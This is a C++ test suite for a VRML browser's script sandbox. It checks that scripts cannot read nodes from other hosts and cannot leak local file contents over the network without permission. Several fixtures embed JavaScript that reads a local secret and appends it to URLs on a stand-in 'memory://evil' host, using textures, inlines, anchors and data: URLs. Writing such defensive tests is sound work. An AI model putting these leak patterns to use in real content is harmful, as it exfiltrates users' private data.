#include "app/loading/world_loader.h"
#include "app/loading/world_loading.h"
#include "app/session/opening/links.h"
#include "app/simulation/simulation.h"
#include "tests/app/scratch_folder.h"
#include "tests/net/memory_network.h"

#include <catch2/catch.hpp>

#include <algorithm>
#include <memory>
#include <span>
#include <string>
#include <string_view>
#include <vector>

// Tests that docs/security.md, "What Scripts may read", names: Scripts that read nodes of other files and hosts, and
// then use the network.
namespace gs::app::private_reads_test {
namespace {

using Lines = std::vector<std::string>;

const std::string kHeader = "#VRML V2.0 utf8\n";
const std::string kImage{"GIF89a\1\0\1\0\x80\0\0\xff\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;", 35};

/// Folder of local files, with the hosts of a network.
struct Web {
  ScratchFolder folder;
  std::shared_ptr<net::MemoryNetwork> network = std::make_shared<net::MemoryNetwork>();
  LoadOptions options;
  Lines printed, warnings;

  Web() { options.memory = net::MakeMemoryTransport{network}; }
  std::string file(const std::string& name, const std::string& body) { return folder.write(name, kHeader + body); }
  void put(const std::string& url, const std::string& body, net::AddressSpace space = net::AddressSpace::global) {
    const auto bytes = std::as_bytes(std::span(body));
    network->put(url, [bytes = std::vector<std::byte>(bytes.begin(), bytes.end()), space](
                          const net::TransferRequest& request, unsigned) {
      net::MemoryResource resource;
      resource.bytes = bytes;
      net::MemoryAnswer answer = net::answer_well(resource, request);
      answer.head.space = space;
      return answer;
    });
  }
  [[nodiscard]] bool asked(const std::string& url) const {
    const auto transfers = network->transfers();
    return std::any_of(transfers.begin(), transfers.end(), [&](const auto& one) { return one.url == url; });
  }
  /// Runs a world for some simulated seconds. Calls `between` after the first second.
  template <class Between>
  void run(const std::string& world, const Between& between) {
    WorldLoading loading(world, options);
    LoadedWorld opened = load_world(loading, world);
    for (const Diagnostic& one : opened.diagnostics.entries()) UNSCOPED_INFO(one.text());
    REQUIRE(opened.scene);
    Simulation simulation(std::move(opened), {64, 64});
    simulation.fetch_with(loading);
    simulation.observe_scripts([&](const ScriptMessage& message) {
      (message.printed ? printed : warnings)
          .push_back(message.printed ? message.diagnostic.message : message.diagnostic.text());
    });
    simulation.run(1);
    between(simulation);
    simulation.run(2);
  }
  void run(const std::string& world) {
    run(world, [](Simulation&) {});
  }
  [[nodiscard]] bool warned(std::string_view part) const {
    return std::any_of(warnings.begin(), warnings.end(),
                       [&](const std::string& one) { return one.find(part) != std::string::npos; });
  }
};

/// Returns a Script that reads 'other.wrl' with createVrmlFromURL, and runs `after` on its nodes `n`.
std::string reader(const std::string& file, const std::string& after, const std::string& interface = "") {
  return "DEF G Group { } DEF T Transform { } DEF S Script { directOutput TRUE field SFNode g USE G field SFNode me "
         "USE S field SFNode t USE T eventIn MFNode came " +
         interface + " url \"javascript: function initialize() { Browser.createVrmlFromURL('" + file +
         "', me, 'came'); } function came(n) { g.children = n; " + after + " }\" }";
}

/// Returns a program that reads the secret, and then runs more.
std::string leak(const std::string& after, const std::string& interface = "") {
  return reader("secret.wrl", "var secret = n[0].title; print(secret); " + after, interface);
}

struct WebWithSecret : Web {
  WebWithSecret() { file("secret.wrl", "WorldInfo { title \"hidden\" }"); }
};

}  // namespace

TEST_CASE(
    "hides values of another host's nodes from a Script from the network, and still draws the nodes and sends them "
    "events") {
  Web web;
  web.put("memory://a/world.wrl",
          kHeader + reader("memory://b/part.wrl",
                           "print(n[0].translation + ' ' + n[0].getNodeName() + n + Object.keys(n[0]).length); "
                           "n[0].translation = new SFVec3f(1, 2, 3); print(g.children.length);"));
  web.put("memory://b/part.wrl",
          kHeader + "DEF Secret Transform { translation 7 8 9 children Shape { geometry Box { } } }");
  web.run("memory://a/world.wrl", [](Simulation& simulation) {
    CHECK(simulation.look().list->items.size() == 1);
    CHECK(simulation.look().list->items[0].world_from_node[3].x == 1);
  });
  CHECK(web.printed == Lines{"undefined [ ]0", "1"});
  CHECK(web.warned("cannot read nodes of memory://b"));
}

TEST_CASE("lets a Script from the network read nodes of its own host") {
  Web web;
  web.put("memory://a/world.wrl", kHeader + reader("part.wrl", "print(n[0].translation);"));
  web.put("memory://a/part.wrl", kHeader + "Transform { translation 7 8 9 }");
  web.run("memory://a/world.wrl");
  CHECK(web.printed == Lines{"7 8 9"});
  CHECK(web.warnings == Lines{});
}

TEST_CASE("computeRayHit finds only Shapes that the Script may read") {
  const auto look = [](const std::string& file) {
    return kHeader +
           reader(file,
                  "} function go() { var h = Browser.computeRayHit(new SFVec3f(0, 0, 9), new SFVec3f(0, 0, -9)); "
                  "print(h ? h.hitPath.length : 'nothing');",
                  "eventIn SFTime go") +
           "DEF C TimeSensor { startTime 946684801 cycleInterval 5 } ROUTE C.cycleTime TO S.go";
  };
  for (const bool own : {true, false}) {
    Web web;
    web.put("memory://a/world.wrl", look(own ? "part.wrl" : "memory://b/part.wrl"));
    for (const char* const host : {"a", "b"})
      web.put("memory://" + std::string(host) + "/part.wrl",
              kHeader + "Transform { children Shape { geometry Box { } } }");
    web.run("memory://a/world.wrl");
    CHECK(web.printed == Lines{own ? "3" : "nothing"});
    CHECK(web.warned("cannot read nodes of memory://b") == !own);
  }
}

TEST_CASE("keeps values of other hosts out of the Browser object") {
  Web web;
  web.put("memory://a/world.wrl",
          kHeader +
              reader("memory://b/part.wrl",
                     "Browser.addRoute(n[0], 'value_changed', Browser, 'set_viewpointPosition'); n[0].set_fraction = "
                     "0.5; n[1].set_bind = true; } function go() { print(Browser.viewpointPosition + ' ' + "
                     "Browser.getWalkSpeed() + ' ' + Browser.getAvatarHeight().toFixed(1));",
                     "eventIn SFTime go") +
              "DEF C TimeSensor { startTime 946684801 cycleInterval 5 } ROUTE C.cycleTime TO S.go Viewpoint { }");
  web.put("memory://b/part.wrl", kHeader +
                                     "PositionInterpolator { key [ 0 1 ] keyValue [ 7 8 9, 7 8 9 ] } NavigationInfo { "
                                     "speed 77 avatarSize [ 3 3 3 ] }");
  web.run("memory://a/world.wrl");
  CHECK(web.printed == Lines{"0 0 10 1 1.6"});
  CHECK(web.warned("cannot read nodes of memory://b"));
}

TEST_CASE("blocks ROUTEs and program replacement across hosts for a Script from the network") {
  Web web;
  web.put("memory://a/world.wrl",
          kHeader + reader("memory://b/part.wrl",
                           "Browser.addRoute(n[0], 'value_changed', me, 'value'); n[0].set_fraction = 0.5; "
                           "n[1].url = new MFString('javascript: print(1);'); ",
                           "eventIn SFFloat value eventOut MFString out"));
  web.put("memory://b/part.wrl", kHeader +
                                     "ScalarInterpolator { key [ 0 1 ] keyValue [ 41 43 ] } Script { url \"javascript: "
                                     "function initialize() { print('b'); }\" }");
  web.run("memory://a/world.wrl");
  CHECK(web.printed == Lines{"b"});
}

TEST_CASE("lets a local Script read another local file, and keeps derived data off the network") {
  WebWithSecret web;
  for (const char* const url : {"memory://evil/1?hidden", "memory://evil/2?hidden", "memory://evil/3?hidden",
                                "memory://evil/4?hidden", "memory://evil/5?hidden", "memory://evil/6?hidden"})
    web.put(url, kImage);
  const std::string world = web.file(
      "world.wrl",
      "DEF I Inline { } DEF X ImageTexture { } DEF A Script { url [ ] } " +
          leak("Browser.createVrmlFromURL('memory://evil/1?' + secret, me, 'came'); "
               "i.url = new MFString('memory://evil/2?' + secret); x.url = new MFString('memory://evil/3?' + secret); "
               "a.url = new MFString('memory://evil/4?' + secret); "
               "t.children = Browser.createVrmlFromString('Inline { url \\\\\\\"memory://evil/5?' + secret + '\\\\\\\" "
               "} "
               "EXTERNPROTO P [ ] \\\\\\\"memory://evil/6?' + secret + '\\\\\\\" P { }');",
               "field SFNode i USE I field SFNode x USE X field SFNode a USE A"));
  web.run(world);
  CHECK(web.printed == Lines{"hidden"});
  CHECK(web.network->transfers().empty());
  CHECK(web.warned("--allow-network"));
}

TEST_CASE("requires permission for loadURL and Anchors that a Script has written") {
  WebWithSecret web;
  const std::string world =
      web.file("world.wrl", "DEF N Anchor { children Shape { geometry Box { size 50 50 1 } } } Viewpoint { } " +
                                leak("Browser.loadURL(new MFString('memory://evil/1?' + secret), new MFString()); "
                                     "anchor.url = new MFString('memory://evil/2.wrl?' + secret);",
                                     "field SFNode anchor USE N"));
  web.run(world, [&](Simulation& simulation) {
    WorldRuntime& runtime = *simulation.look().document->runtime;
    CHECK(runtime.requests().take_script_requests().empty());
    const vrml::SceneGraph& scene = *simulation.world().scene;
    CHECK(runtime.requests().open_computed_anchor(*runtime.execution().scenes().own(scene), scene.roots()[0]));
    CHECK(runtime.requests().take_script_requests().empty());
    const auto question = runtime.requests().network_question();
    REQUIRE(question);
    CHECK(question->url == "memory://evil/1?hidden");
    CHECK(question->file.ends_with("/secret.wrl"));
    runtime.requests().answer_network_question(true);
    const std::vector<ScriptRequest> requests = runtime.requests().take_script_requests();
    REQUIRE(requests.size() == 2);
    CHECK(requests[1].urls == Lines{"memory://evil/2.wrl?hidden"});
    CHECK_FALSE(runtime.requests().network_question());
  });
}

TEST_CASE("sends or drops waiting requests after the user's answer") {
  for (const bool allow : {true, false}) {
    WebWithSecret web;
    web.put("memory://evil/1?hidden", kImage);
    const std::string world =
        web.file("world.wrl", "DEF X ImageTexture { } " +
                                  leak("x.url = new MFString('memory://evil/1?' + secret);", "field SFNode x USE X"));
    web.run(world, [&](Simulation& simulation) {
      WorldRuntime& runtime = *simulation.look().document->runtime;
      CHECK_FALSE(web.asked("memory://evil/1?hidden"));
      REQUIRE(runtime.requests().network_question());
      runtime.requests().answer_network_question(allow);
      CHECK_FALSE(runtime.requests().network_question());
    });
    CHECK(web.asked("memory://evil/1?hidden") == allow);
  }
}

TEST_CASE("--allow-network lets Scripts that have read a local file use the network") {
  WebWithSecret web;
  web.options.allow_network = true;
  web.put("memory://evil/1?hidden", kHeader);
  web.run(web.file("world.wrl", leak("Browser.createVrmlFromURL('memory://evil/1?' + secret, me, 'other');",
                                     "eventIn MFNode other")));
  CHECK(web.asked("memory://evil/1?hidden"));
}

TEST_CASE("applies the rule to URLs inside data: URLs") {
  WebWithSecret web;
  web.put("memory://evil/1?hidden", kImage);
  web.run(web.file("world.wrl",
                   "DEF I Inline { } " + leak("i.url = new MFString('data:model/vrml,%23VRML%20V2.0%20utf8%0AInline%20"
                                              "%7Burl%20%22memory://evil/1?' + secret + '%22%7D');",
                                              "field SFNode i USE I")));
  CHECK(web.network->transfers().empty());
}

TEST_CASE("loads URLs that files name themselves after a Script has read another local file") {
  WebWithSecret web;
  web.put("memory://b/1.gif", kImage);
  web.put("memory://b/2.gif", kImage);
  web.file("room.wrl", "Shape { appearance Appearance { texture ImageTexture { url \"memory://b/2.gif\" } } }");
  web.file("inner.wrl", "Shape { appearance Appearance { texture ImageTexture { url \"memory://b/1.gif\" } } }");
  const std::string world =
      web.file("world.wrl", "DEF I Inline { } " + leak("i.url = new MFString('inner.wrl'); "
                                                       "Browser.createVrmlFromURL('room.wrl', me, 'other');",
                                                       "field SFNode i USE I eventIn MFNode other"));
  web.run(world);
  CHECK(web.asked("memory://b/1.gif"));
  CHECK(web.asked("memory://b/2.gif"));
  CHECK(web.warnings == Lines{});
}

TEST_CASE("computes a url that a Script sets on a PROTO instance in the nodes of its body") {
  WebWithSecret web;
  web.put("memory://evil/1?hidden", kImage);
  web.run(web.file("world.wrl",
                   "PROTO P [ exposedField MFString url [ ] ] { Shape { appearance Appearance { texture ImageTexture { "
                   "url IS url } } } } DEF X P { } " +
                       leak("x.url = new MFString('memory://evil/1?' + secret);", "field SFNode x USE X")));
  CHECK(web.network->transfers().empty());
  CHECK(web.warned("--allow-network"));
}

TEST_CASE("a local world that reads its own nodes uses the network as before") {
  Web web;
  web.put("memory://b/1.gif", kImage);
  web.run(web.file("world.wrl",
                   "DEF X ImageTexture { } DEF S Script { directOutput TRUE field SFNode x USE X url \"javascript: "
                   "function initialize() { print(x.repeatS); x.url = new MFString('memory://b/1.gif'); }\" }"));
  CHECK(web.printed == Lines{"true"});
  CHECK(web.asked("memory://b/1.gif"));
}

TEST_CASE("lets a PROTO from the network read nodes that a local world passes, and then requires permission") {
  Web web;
  web.put("memory://b/lib.wrl",
          kHeader +
              "PROTO P [ field SFNode node NULL ] { Script { directOutput TRUE field SFNode node IS node url "
              "\"javascript: function initialize() { print(node.title); Browser.createVrmlFromURL('memory://b/1?' "
              "+ node.title, node, 'none'); }\" } }");
  web.put("memory://b/1?mine", kHeader);
  web.run(web.file("world.wrl",
                   "EXTERNPROTO P [ field SFNode node ] \"memory://b/lib.wrl#P\" P { node WorldInfo { "
                   "title \"mine\" } }"));
  CHECK(web.printed == Lines{"mine"});
  CHECK_FALSE(web.asked("memory://b/1?mine"));
}

TEST_CASE("gives nodes from a host the rights of that host, not of the requesting Script") {
  WebWithSecret web;
  web.put("memory://b/part.wrl",
          kHeader +
              "DEF M Script { directOutput TRUE field SFNode me USE M eventIn MFNode came url \"javascript: "
              "function initialize() { print('runs'); Browser.createVrmlFromURL('" +
              web.folder.path("secret.wrl") + "', me, 'came'); Browser.createVrmlFromURL('file://" +
              web.folder.path("secret.wrl") +
              "', me, 'came'); Browser.createVrmlFromURL('secret.wrl', me, 'came'); } function came(n) { "
              "print('read'); }\" } Inline { url \"file://" +
              web.folder.path("secret.wrl") + "\" }");
  web.run(web.file("world.wrl", reader("memory://b/part.wrl", "")), [](Simulation& simulation) {
    for (const auto& [node, content] : simulation.world().scene->inlines().all()) CHECK_FALSE(content);
  });
  CHECK(web.printed == Lines{"runs"});
}

TEST_CASE("resolves references of a file read at run time against that file") {
  Web web;
  web.file("sub/part.wrl", "Inline { url \"beside.wrl\" }");
  web.file("sub/beside.wrl", "Shape { geometry Box { } }");
  web.file("beside.wrl", "Group { }");
  web.run(web.file("world.wrl", reader("sub/part.wrl", "")),
          [](Simulation& simulation) { CHECK(simulation.look().list->items.size() == 1); });
}

TEST_CASE("shares library objects between Scripts of one file, but not of different files and hosts") {
  Web web;
  web.file("inner.wrl", "Script { url \"javascript: print(Browser.x);\" }");
  web.run(web.file("world.wrl",
                   "Script { url \"javascript: Browser.x = 'mine';\" } Script { url \"javascript: "
                   "print(Browser.x);\" } Inline { url \"inner.wrl\" }"));
  CHECK(web.printed == Lines{"mine", "undefined"});
}

}  // namespace gs::app::private_reads_test
